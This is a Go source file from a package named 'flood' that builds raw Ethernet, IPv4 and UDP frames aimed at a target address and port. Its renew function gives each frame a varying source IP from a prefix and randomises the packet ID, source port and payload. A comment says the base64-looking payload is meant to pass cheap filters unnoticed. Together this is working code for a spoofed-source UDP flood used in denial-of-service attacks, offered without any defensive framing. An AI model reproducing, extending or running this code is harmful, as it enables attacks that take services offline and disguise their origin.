//go:build linux

package flood

import (
	"encoding/binary"
	"net"

	"golang.org/x/sys/unix"
)

// Where the headers are in a frame: Ethernet, IPv4 without options, UDP.
const (
	ipAt      = 14
	sumAt     = ipAt + 10
	sourceAt  = ipAt + 12
	udpAt     = ipAt + 20
	payloadAt = udpAt + 8
)

// letters are the characters of a base64 text. Programs that look at the form
// before they do anything expensive must find nothing wrong.
const letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

// frame is one Ethernet frame with a UDP datagram.
type frame []byte

// newFrame makes a frame that lacks its source only.
func newFrame(from net.HardwareAddr, o Orders) frame {
	f := make(frame, payloadAt+o.Payload)
	copy(f, o.Gateway)
	copy(f[6:], from)
	binary.BigEndian.PutUint16(f[12:], unix.ETH_P_IP)

	f[ipAt] = 0x45 // version 4, five words of header
	binary.BigEndian.PutUint16(f[ipAt+2:], uint16(len(f)-ipAt))
	f[ipAt+8] = 64 // hops
	f[ipAt+9] = unix.IPPROTO_UDP
	to := o.To.As4()
	copy(f[ipAt+16:], to[:])

	binary.BigEndian.PutUint16(f[udpAt+2:], o.Port)
	binary.BigEndian.PutUint16(f[udpAt+4:], uint16(8+o.Payload)) // the checksum, zero, says that there is none
	for i := payloadAt; i < len(f); i++ {
		f[i] = letters[(i*37)%len(letters)]
	}
	return f
}

// renew gives the frame a source, with the lower 24 bits of host, and changes
// its identification, source port and payload by salt.
func (f frame) renew(host uint32, salt uint64) {
	first := Sources.Addr().As4()
	binary.BigEndian.PutUint32(f[sourceAt:], host&0x00ffffff|uint32(first[0])<<24)
	binary.BigEndian.PutUint16(f[ipAt+4:], uint16(salt>>16))
	binary.BigEndian.PutUint16(f[udpAt:], uint16(salt)|0x8000)
	for i := payloadAt; i < min(payloadAt+16, len(f)); i++ {
		f[i] = letters[(salt+uint64(host))&63]
		salt, host = salt>>3|salt<<61, host>>2
	}
	f[sumAt], f[sumAt+1] = 0, 0
	binary.BigEndian.PutUint16(f[sumAt:], checksum(f[ipAt:udpAt]))
}

// checksum is that of RFC 1071.
func checksum(b []byte) uint16 {
	var sum uint32
	for ; len(b) > 1; b = b[2:] {
		sum += uint32(binary.BigEndian.Uint16(b))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}
